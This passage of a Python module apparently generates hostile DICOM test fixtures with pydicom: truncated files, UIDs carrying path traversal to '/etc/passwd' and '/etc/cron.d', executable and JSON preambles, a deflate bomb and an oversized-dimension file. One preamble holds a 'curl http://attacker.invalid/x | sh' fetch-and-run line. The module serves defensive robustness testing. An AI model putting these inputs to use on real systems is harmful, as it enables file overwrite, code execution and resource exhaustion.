    "uid_with_nul": "SOPInstanceUID with a NUL byte in the middle",
    "empty_sop_uid": "SOPInstanceUID present with zero length (meta too)",
    "uid_too_long": "SOPInstanceUID of 80 characters (UI maximum is 64)",
    "meta_uid_mismatch": "MediaStorageSOPInstanceUID differs from SOPInstanceUID",
    "absurd_length": "private OB element whose explicit VR length is 0xFFFFFFF0",
    "preamble_mz": "valid CT file whose preamble is a DOS/PE (MZ) header",
    "preamble_elf": "valid CT file whose preamble is an ELF header",
    "preamble_json": "valid CT file whose preamble is a JSON document",
    "huge_dimensions": "header claims 65535x65535x10000 16-bit frames, pixel data is 1 KiB",
    "deflate_bomb": "Deflated TS file of ~0.5 MiB that inflates to a 512 MiB data set",
    "no_meta": "raw implicit VR data set: no preamble, no DICM, no meta (legacy, not Part 10)",
}


@contextmanager
def _lenient() -> Iterator[None]:
    """Let pydicom write invalid values without warnings or errors."""
    reading = config.settings.reading_validation_mode
    writing = config.settings.writing_validation_mode
    config.settings.reading_validation_mode = config.IGNORE
    config.settings.writing_validation_mode = config.IGNORE
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            yield
    finally:
        config.settings.reading_validation_mode = reading
        config.settings.writing_validation_mode = writing


def _part10_bytes(ds: Dataset) -> bytes:
    buf = io.BytesIO()
    ds.save_as(buf, enforce_file_format=True)
    return buf.getvalue()


def _part10_unchecked(ds: Dataset) -> bytes:
    """Part-10 bytes written without pydicom's meta validation (for empty meta values)."""
    meta = ds.file_meta
    meta.FileMetaInformationVersion = b"\x00\x01"
    group = DicomBytesIO()
    group.is_little_endian = True
    group.is_implicit_VR = False
    write_file_meta_info(group, meta, enforce_standard=False)
    body = DicomBytesIO()
    body.is_little_endian = True
    body.is_implicit_VR = False
    write_dataset(body, ds)
    length = struct.pack("<HH2sHI", 0x0002, 0x0000, b"UL", 4, len(group.getvalue()))
    return b"\x00" * 128 + b"DICM" + length + group.getvalue() + body.getvalue()


def _preamble(head: bytes) -> bytes:
    if len(head) > 128:
        raise ValueError("preamble is 128 bytes")
    return head + b"\x00" * (128 - len(head))


def hostile_files(out_dir: str | os.PathLike[str], seed: int = 0) -> dict[str, Path]:
    """Write malformed and malicious inputs; return ``{name: path}`` (see HOSTILE_DESCRIPTIONS).

    Valid-looking ones are 32x32 CT instances of patient ``HOSTILE``; each has its own SOP
    Instance UID, so none is a re-send of another. File names are ``<name>.dcm`` (``.bin`` for
    ``not_dicom``): the hostile content is inside, never in the name.
    """
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    files: dict[str, Path] = {}

    def base(name: str) -> Dataset:
        return make_dataset(
            "CT",
            seed,
            rows=32,
            cols=32,
            patient_id="HOSTILE",
            patient_name="Hostile^Test",
            series_number=90,
            overrides={"SOPInstanceUID": str(seeded_uid("hostile", seed, name))},
        )

    def put(name: str, data: bytes, suffix: str = ".dcm") -> None:
        path = out / f"{name}{suffix}"
        path.write_bytes(data)
        files[name] = path

    def with_meta(ds: Dataset) -> Dataset:
        ds.file_meta = _file_meta(ds, ExplicitVRLittleEndian)
        return ds

    rng = _stream("hostile", seed)
    noise = rng.integers(0, 256, 2048, dtype=np.uint8).tobytes()
    put("not_dicom", b"This is not a DICOM file.\n" + noise, ".bin")
    put("empty_file", b"")

    with _lenient():
        whole = _part10_bytes(with_meta(base("truncated")))
        meta_end = 132 + 12 + struct.unpack_from("<I", whole, 132 + 8)[0]
        put("truncated_in_meta", whole[: 132 + (meta_end - 132) // 2])
        name_at = whole.index(b"\x10\x00\x10\x00PN")
        put("truncated_in_header", whole[: name_at + 8 + 4])
        pixel_at = whole.rindex(b"\xe0\x7f\x10\x00OW")
        put("truncated_in_pixel_data", whole[: pixel_at + 12 + (len(whole) - pixel_at - 12) // 2])

        ds = base("uid_path_traversal")
        ds.SOPInstanceUID = "../../etc/passwd"
        put("uid_path_traversal", _part10_bytes(with_meta(ds)))

        ds = base("uids_path_traversal_all")
        ds.StudyInstanceUID = "../../../tmp/vesalius-study"
        ds.SeriesInstanceUID = "../series"
        ds.SOPInstanceUID = "../../../../../../etc/cron.d/x"
        put("uids_path_traversal_all", _part10_bytes(with_meta(ds)))

        ds = base("uid_with_nul")
        ds.SOPInstanceUID = str(seeded_uid("nul", seed))[:40] + "\x00.1.2"
        put("uid_with_nul", _part10_bytes(with_meta(ds)))

        ds = with_meta(base("empty_sop_uid"))
        ds.SOPInstanceUID = ""
        ds.file_meta.MediaStorageSOPInstanceUID = UID("")
        put("empty_sop_uid", _part10_unchecked(ds))

        ds = base("uid_too_long")
        ds.SOPInstanceUID = "1.2.826.0.1.3680043.8.498." + "1234567890" * 5 + "1234"
        put("uid_too_long", _part10_bytes(with_meta(ds)))

        ds = with_meta(base("meta_uid_mismatch"))
        ds.file_meta.MediaStorageSOPInstanceUID = seeded_uid("other", seed)
        put("meta_uid_mismatch", _part10_unchecked(ds))

        ds = base("absurd_length")
        ds.add_new(0x00090010, "LO", "VESALIUS HOSTILE")
        ds.add_new(0x00091010, "OB", b"PLACEHOLDER!")
        data = _part10_bytes(with_meta(ds))
        marker = b"\x09\x00\x10\x10OB\x00\x00" + struct.pack("<I", 12)
        at = data.index(marker)
        patched = data[: at + 8] + struct.pack("<I", 0xFFFFFFF0) + data[at + 12 :]
        put("absurd_length", patched)

        mz = (
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43
            + struct.pack("<I", 0x80)
            + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in"
            b" DOS mode.\r\r\n$"
        )
        elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
        js = b'{"payload": "curl http://attacker.invalid/x | sh", "ok": true}'
        for name, head in (("preamble_mz", mz), ("preamble_elf", elf), ("preamble_json", js)):
            ds = with_meta(base(name))
            ds.preamble = _preamble(head)
            put(name, _part10_bytes(ds))

        ds = base("huge_dimensions")
        ds.Rows = 65535
        ds.Columns = 65535
        ds.NumberOfFrames = 10000
        ds["PixelData"] = DataElement(0x7FE00010, "OW", noise[:1024])
        put("huge_dimensions", _part10_bytes(with_meta(ds)))

        put("deflate_bomb", _deflate_bomb(base("deflate_bomb")))

        ds = base("no_meta")
        buf = DicomBytesIO()
        buf.is_little_endian = True
        buf.is_implicit_VR = True
        write_dataset(buf, ds)
        put("no_meta", buf.getvalue())
    return files


def _deflate_bomb(ds: Dataset, side: int = 16384) -> bytes:
    """A Deflated Explicit VR Little Endian file whose data set inflates to side*side*2 bytes."""
    del ds.PixelData
    ds.Rows = side
    ds.Columns = side
    meta = _file_meta(ds, DeflatedExplicitVRLittleEndian)
    head = DicomBytesIO()
    head.is_little_endian = True
    head.is_implicit_VR = False
    write_dataset(head, ds)
    pixel_len = side * side * 2
    element = struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OW", 0, pixel_len)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = [comp.compress(head.getvalue() + element)]
    chunk = bytes(1 << 20)
    for _ in range(pixel_len // len(chunk)):
        body.append(comp.compress(chunk))
    body.append(comp.flush())
    out = DicomBytesIO()
    out.write(b"\x00" * 128 + b"DICM")
    write_file_meta_info(out, meta, enforce_standard=True)
    return out.getvalue() + b"".join(body)
